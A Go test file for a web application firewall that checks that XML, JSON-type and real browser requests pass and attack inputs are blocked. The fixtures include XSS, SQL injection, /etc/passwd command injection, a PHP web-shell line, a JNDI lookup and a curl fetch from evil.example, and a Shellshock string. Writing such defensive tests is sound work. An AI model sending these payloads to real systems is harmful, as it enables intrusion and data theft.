package waf_test

import (
	"html"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/portcullis/portcullis/internal/stage/waf"
)

// verdictOf inspects one request with a default stage.
func verdictOf(t *testing.T, s *waf.Stage, r *http.Request) waf.Verdict {
	t.Helper()
	r.Host = "api.example.com"
	v, err := inspectRequest(s, r)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func post(ct, body string) *http.Request {
	r := httptest.NewRequest("POST", "/api/items", strings.NewReader(body))
	r.Header.Set("Content-Type", ct)
	r.Header.Set("User-Agent", browserUA)
	return r
}

// TestXMLStructureIsNotJudged: the names of a document's elements and
// attributes are its schema's. A SOAP 1.1 or 1.2 envelope (namespace
// declarations), an Atom entry and an SVG (xlink:href) with ordinary text
// pass; the same documents carrying an attack in a text node or an
// attribute value are refused. Before, every namespaced document was
// refused by CRS 941130, which read "xmlns:soap" as an XSS attribute.
func TestXMLStructureIsNotJudged(t *testing.T) {
	s, err := waf.New(waf.Config{}, waf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	soap11 := func(text, attr string) string {
		return `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Header><auth:Token xmlns:auth="urn:example:auth" kind="` +
			html.EscapeString(attr) + `">abc</auth:Token></soap:Header><soap:Body><m:UpdateNote xmlns:m="http://example.com/notes"><m:id>42</m:id><m:text>` +
			html.EscapeString(text) + `</m:text></m:UpdateNote></soap:Body></soap:Envelope>`
	}
	soap12 := func(text, attr string) string {
		return `<?xml version="1.0"?><env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><GetItem xmlns="http://example.com/" lang="` +
			html.EscapeString(attr) + `"><note>` + html.EscapeString(text) + `</note></GetItem></env:Body></env:Envelope>`
	}
	atom := func(text, attr string) string {
		return `<entry xmlns="http://www.w3.org/2005/Atom" xmlns:xlink="http://www.w3.org/1999/xlink"><title>` + html.EscapeString(text) +
			`</title><link rel="alternate" xlink:href="https://example.com/a" hreflang="` + html.EscapeString(attr) + `"/></entry>`
	}
	svg := func(text, attr string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><title>` + html.EscapeString(text) +
			`</title><use xlink:href="#dot" class="` + html.EscapeString(attr) + `"/></svg>`
	}
	const prose = "The parcel arrived on Tuesday; the box was dented, but everything inside was fine."
	for _, d := range []struct {
		name, ct string
		doc      func(text, attr string) string
	}{
		{"soap 1.1", "text/xml; charset=utf-8", soap11},
		{"soap 1.2", "application/soap+xml", soap12},
		{"atom", "application/atom+xml", atom},
		{"svg", "application/xml", svg},
	} {
		if v := verdictOf(t, s, post(d.ct, d.doc(prose, "en"))); v.Blocked || v.ParseError {
			t.Errorf("%s with ordinary text: refused (%v at %s)", d.name, v.Rules, v.Location)
		}
		for _, attack := range []string{"<script>alert(document.cookie)</script>", "1' UNION SELECT password FROM users--"} {
			if v := verdictOf(t, s, post(d.ct, d.doc(attack, "en"))); !v.Blocked {
				t.Errorf("%s with %q in a text node: passed", d.name, attack)
			}
			if v := verdictOf(t, s, post(d.ct, d.doc(prose, attack))); !v.Blocked {
				t.Errorf("%s with %q in an attribute value: passed", d.name, attack)
			}
		}
	}
}

// TestJSONMediaTypes: the structured-syntax +json types (RFC 6839) are
// JSON to the stage, and their bodies get the verdicts application/json
// bodies get, whether or not a value makes the CRS run. Before, CRS's
// content-type allowlist (920420) refused JSON:API, JSON Merge Patch and
// JSON Patch bodies, but only when some value woke the CRS: the same body
// passed or not by its words. A plain-text body is inspected as one text
// value the same way.
func TestJSONMediaTypes(t *testing.T) {
	s, err := waf.New(waf.Config{}, waf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	bodies := map[string]string{
		// inert: the CRS does not run for it
		"prose": `{"note":"All art is but imitation of nature."}`,
		// a value with a quote and punctuation, which makes the CRS run
		"quoted": `{"note":"A shy teenage boy finally worked up the nerve to give a gift to\nMadonna, a young puppy.  It hitched its waggin' to a star."}`,
	}
	attacks := []string{`{"note":"<script>alert(1)</script>"}`, `{"note":"1' OR '1'='1' --"}`, `{"note":"; cat /etc/passwd"}`}
	for _, ct := range []string{"application/json", "application/vnd.api+json", "application/merge-patch+json", "application/problem+json", "application/hal+json; charset=utf-8"} {
		for name, b := range bodies {
			if v := verdictOf(t, s, post(ct, b)); v.Blocked {
				t.Errorf("%s, %s body: refused (%v)", ct, name, v.Rules)
			}
		}
		for _, a := range attacks {
			if v := verdictOf(t, s, post(ct, a)); !v.Blocked {
				t.Errorf("%s, %s: passed", ct, a)
			}
		}
	}
	text := "A shy teenage boy finally worked up the nerve to give a gift to\nMadonna, a young puppy.  It hitched its waggin' to a star."
	if v := verdictOf(t, s, post("text/plain", text)); v.Blocked {
		t.Errorf("text/plain prose: refused (%v)", v.Rules)
	}
	if v := verdictOf(t, s, post("text/plain", "x'; DROP TABLE users; --")); !v.Blocked {
		t.Errorf("text/plain attack: passed")
	}
}

// TestUserAgentPayloads: a User-Agent that no browser or library sends
// (PHP for a log to include, a template, a JNDI lookup) gets the attack
// rules an argument gets; the 4,000-odd real browser and crawler agents
// sqlmap ships (Debian's sqlmap, data nobody here wrote) all pass.
func TestUserAgentPayloads(t *testing.T) {
	s, err := waf.New(waf.Config{}, waf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	get := func(ua string) *http.Request {
		r := httptest.NewRequest("GET", "/api/items?limit=10", nil)
		r.Header.Set("User-Agent", ua)
		return r
	}
	for _, ua := range []string{
		"<?php system($_GET['c']); ?>",
		"system('curl https://evil.example/x.txt');",
		"${jndi:ldap://evil.example/a}",
		"() { :; }; /bin/bash -c 'id'",
		"Mozilla/5.0' AND SLEEP(5)-- ",
	} {
		if v := verdictOf(t, s, get(ua)); !v.Blocked {
			t.Errorf("User-Agent %q: passed", ua)
		}
	}
	uas := readLines("/usr/share/sqlmap/data/txt/user-agents.txt")
	if len(uas) == 0 {
		t.Skip("sqlmap not installed (scripts/test-deps.sh installs it): no real user agents to pass")
	}
	n, blocked := 0, 0
	for _, ua := range uas {
		if ua == "" || strings.HasPrefix(ua, "#") {
			continue
		}
		n++
		if v := verdictOf(t, s, get(ua)); v.Blocked {
			blocked++
			t.Errorf("real User-Agent %q: refused (%v)", ua, v.Rules)
		}
	}
	if n < 1000 {
		t.Fatalf("read %d user agents, want thousands", n)
	}
}
